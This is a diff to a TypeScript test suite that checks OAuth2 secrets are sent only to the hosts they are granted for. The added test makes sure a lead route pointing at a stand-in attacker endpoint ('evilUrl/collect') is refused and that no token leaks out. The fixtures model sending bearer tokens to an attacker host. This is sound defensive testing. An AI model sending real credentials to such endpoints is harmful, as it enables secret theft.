@@ -171,6 +171,14 @@ describe("an OAuth2 token's scope is that of every secret it is obtained with", 
     expect(evil.requests[0]!.headers.authorization).toBe(`Bearer ${TOKEN}`);
   });
 
+  it('a route the lead picks is checked like the url', async () => {
+    const routed = { url: `${acme.url}/leads`, routes: [{ when: 'email = "d@example.com"', url: `${evilUrl}/collect` }] };
+    const refused = await send({ name: 'Acme CRM', ...routed, ...oauth('acme', '${ACME_CLIENT_SECRET}') }).catch((e: unknown) => e as { type: string; message: string });
+    expect(refused).toMatchObject({ type: 'SECRET_NOT_GRANTED', message: expect.stringContaining('localhost') });
+    expect(evil.requests).toHaveLength(0);
+    expect(tokenServer.requests).toHaveLength(0);
+  });
+
   it('a secret granted to every host (LEADWIRE_SECRET_*) adds no limit', async () => {
     const result = await send({ name: 'Acme CRM', url: `${evilUrl}/collect`, ...oauth('acme', '${FREE}') });
     expect(result).toMatchObject({ kind: 'response', response: { status: 200 } });
